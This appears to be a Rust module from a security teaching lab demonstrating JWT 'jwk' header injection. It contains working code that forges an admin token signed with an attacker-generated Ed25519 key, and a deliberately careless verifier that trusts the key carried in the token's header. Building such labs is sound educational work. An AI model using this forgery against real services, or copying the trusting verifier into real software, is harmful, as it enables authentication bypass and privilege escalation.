//! `jwk` header injection: the attacker signs with their own Ed25519 key and puts its public half
//! in the token's header; a verifier that takes "the key" from there accepts anything.
//!
//! RFC 7515 §4.1.3 lets a header carry the key it was signed with, as a hint. A verifier that
//! believes it has let the token choose its own judge. This server's key ring picks the key by
//! its own rules (never from the token: `jwk`, `jku` and `x5u` are not read), and a header it did
//! not write is refused before any signature is checked.

use actix_web::{http::StatusCode, web, HttpRequest, HttpResponse};
use authlab_core::{Identity, Role, UserDirectory};
use authlab_jwt::codec::unix_now;
use base64::{engine::general_purpose::URL_SAFE_NO_PAD, Engine};
use ed25519_dalek::{Signer, SigningKey};
use jsonwebtoken::{jwk::Jwk, Algorithm, DecodingKey, Validation};
use rand::RngCore;
use serde_json::{json, Value};

use super::{
    naive_verifier::{self, NaiveVerdict},
    pages::{Attack, JwkInjectionPage},
    present,
    token_view::TokenView,
    Lab, LabInfo,
};
use crate::{
    csrf::CsrfToken,
    errors::PageError,
    forms::CheckedForm,
    render::{self, private},
    TokenKit,
};

/// This lab, as the index lists it and the app routes it.
pub const LAB: Lab = Lab {
    info: LabInfo {
        slug: "jwk-injection",
        title: "jwk header injection",
        summary: "A token signed with the attacker's own key, carrying that key in its header: \
                  a verifier that trusts the header accepts it.",
        affects: None,
    },
    page_routes,
    under_each_mount: None,
    under_token_mount: None,
    under_mount: None,
};

fn page_routes(cfg: &mut web::ServiceConfig) {
    cfg.route("/labs/jwk-injection", web::get().to(show))
        .route("/labs/jwk-injection", web::post().to(submit));
}

pub async fn show(csrf: CsrfToken) -> Result<HttpResponse, PageError> {
    page(&csrf, None, None)
}

/// The forged token: `claims` signed with a fresh attacker key whose public half is in the header.
fn forge(claims: &Value) -> String {
    let mut seed = [0u8; 32];
    rand::rng().fill_bytes(&mut seed);
    let attacker = SigningKey::from_bytes(&seed);
    let x = URL_SAFE_NO_PAD.encode(attacker.verifying_key().as_bytes());
    let header = json!({
        "alg": "EdDSA",
        "typ": "JWT",
        "kid": "attacker-key",
        "jwk": {"kty": "OKP", "crv": "Ed25519", "x": x, "use": "sig"},
    });
    let input = format!(
        "{}.{}",
        naive_verifier::encode_json(&header),
        naive_verifier::encode_json(claims)
    );
    let signature = attacker.sign(input.as_bytes());
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature.to_bytes()))
}

/// The careless verifier: jsonwebtoken, handed the key the header carries.
fn trusting_the_header(token: &str) -> Option<Value> {
    let header = jsonwebtoken::decode_header(token).ok()?;
    let jwk: Jwk = header.jwk?;
    let key = DecodingKey::from_jwk(&jwk).ok()?;
    let mut validation = Validation::new(Algorithm::EdDSA);
    validation.validate_aud = false;
    jsonwebtoken::decode::<Value>(token, &key, &validation)
        .ok()
        .map(|data| data.claims)
}

pub async fn submit(
    req: HttpRequest,
    tokens: web::Data<TokenKit>,
    users: web::Data<UserDirectory>,
    _form: CheckedForm,
    csrf: CsrfToken,
) -> Result<HttpResponse, PageError> {
    let alice = Identity {
        role: Role::Admin,
        ..users.lookup("alice").unwrap_or(Identity {
            username: "alice".into(),
            display_name: "Alice".into(),
            role: Role::Admin,
        })
    };
    let claims = tokens.keys.load().claims_for(&alice, unix_now());
    let claims = serde_json::to_value(&claims).map_err(anyhow::Error::from)?;
    let forged = forge(&claims);
    let naive = NaiveVerdict::new(
        "reads the header's jwk, builds an Ed25519 key from it, and checks the signature with \
         that key (jsonwebtoken's own decode, given the header's key).",
        trusting_the_header(&forged),
    );
    let sent = present(
        &req,
        &tokens.mount.path("api/me"),
        ("Authorization", format!("Bearer {forged}")),
        "The token, sent to this server's /jwt/api/me".into(),
    )
    .await;
    let view =
        TokenView::of(&forged).ok_or_else(|| anyhow::anyhow!("a signed token has three parts"))?;
    page(
        &csrf,
        None,
        Some(vec![Attack {
            what: "alice (admin), signed with the attacker's key, that key in the header".into(),
            view,
            naive,
            sent,
        }]),
    )
}

fn page(
    csrf: &CsrfToken,
    problem: Option<String>,
    result: Option<Vec<Attack>>,
) -> Result<HttpResponse, PageError> {
    Ok(private(render::html(
        StatusCode::OK,
        &JwkInjectionPage {
            lab: &LAB.info,
            csrf: csrf.value(),
            problem,
            result,
        },
    )))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_careless_verifier_accepts_the_injected_key_and_only_with_it() {
        jsonwebtoken::crypto::rust_crypto::DEFAULT_PROVIDER
            .install_default()
            .ok();
        let claims = json!({"sub": "alice", "role": "admin", "exp": unix_now() + 60});
        let forged = forge(&claims);
        let mut tampered = forged.clone();
        tampered.insert(tampered.find('.').expect("dot") + 1, 'e');

        assert_eq!(trusting_the_header(&forged), Some(claims));
        assert_eq!(trusting_the_header(&tampered), None);
    }
}
